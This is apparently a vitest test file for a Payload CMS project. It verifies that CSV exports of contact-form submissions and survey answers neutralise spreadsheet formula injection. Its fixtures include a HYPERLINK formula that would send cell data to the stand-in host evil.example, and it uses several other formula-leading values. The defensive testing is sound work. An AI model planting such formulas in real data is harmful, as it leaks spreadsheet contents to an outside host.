import { createLocalReq } from 'payload'
import { afterAll, describe, expect, it } from 'vitest'

import { cms } from '@/cms/client'

afterAll(async () => (await cms()).destroy())

/** The export download an administrator's list view asks for (the plugin's own endpoint). */
async function exportCsv(collectionSlug: string): Promise<string> {
  const payload = await cms()
  const { docs } = await payload.find({ collection: 'users', where: { role: { equals: 'admin' } }, limit: 1, depth: 0 })
  const user = { ...docs[0]!, collection: 'users' as const }
  const req = await createLocalReq({ user }, payload)
  // The body as Payload parses it from the admin's JSON request.
  const body = { data: { collectionSlug, format: 'csv', name: 'export' } }
  req.data = body
  req.json = async () => body
  const endpoint = payload.collections.exports?.config.endpoints
  const download = Array.isArray(endpoint) ? endpoint.find((candidate) => candidate.path === '/download') : undefined
  const response = await download!.handler(req)
  const text = await response.text()
  expect(response.status, text).toBe(200)
  return text
}

describe('CSV exports', () => {
  it('the request inbox shows a visitor’s formula as text', async () => {
    const payload = await cms()
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Fribourg")'
    const created = await payload.create({
      collection: 'form-submissions',
      data: {
        kind: 'contact',
        status: 'new',
        site: '1',
        locale: 'fr',
        firstName: '@SUM(1+1)',
        lastName: '-2+3',
        email: 'formula@example.ch',
        city: formula,
        recipient: 'service@netplus.ch',
        answers: { message: '+cmd' },
      },
      depth: 0,
    })
    try {
      const csv = await exportCsv('form-submissions')
      const line = csv.split('\n').find((row) => row.includes('formula@example.ch'))!
      expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Fribourg"")"`)
      expect(line).toContain("'@SUM(1+1)")
      expect(line).toContain("'-2+3")
      // No cell of the file starts with a formula.
      for (const row of csv.split('\n')) expect(row).not.toMatch(/(^|,)"?[=+\-@]/)
    } finally {
      await payload.delete({ collection: 'form-submissions', id: created.id })
    }
  })

  it('the survey answers show a visitor’s formula as text', async () => {
    const payload = await cms()
    const { docs } = await payload.find({ collection: 'surveys', limit: 1, depth: 0 })
    const created = await payload.create({
      collection: 'survey-answers',
      data: {
        survey: docs[0]!.id,
        site: '1',
        locale: 'fr',
        visitor: `csv-${Date.now()}`,
        answers: { satisfaction: 5, comment: '=1+1 csv-test' },
      },
      depth: 0,
    })
    try {
      const csv = await exportCsv('survey-answers')
      expect(csv).toContain("'=1+1 csv-test")
      expect(csv).not.toMatch(/(^|,)"?=1\+1 csv-test/m)
    } finally {
      await payload.delete({ collection: 'survey-answers', id: created.id })
    }
  })
})
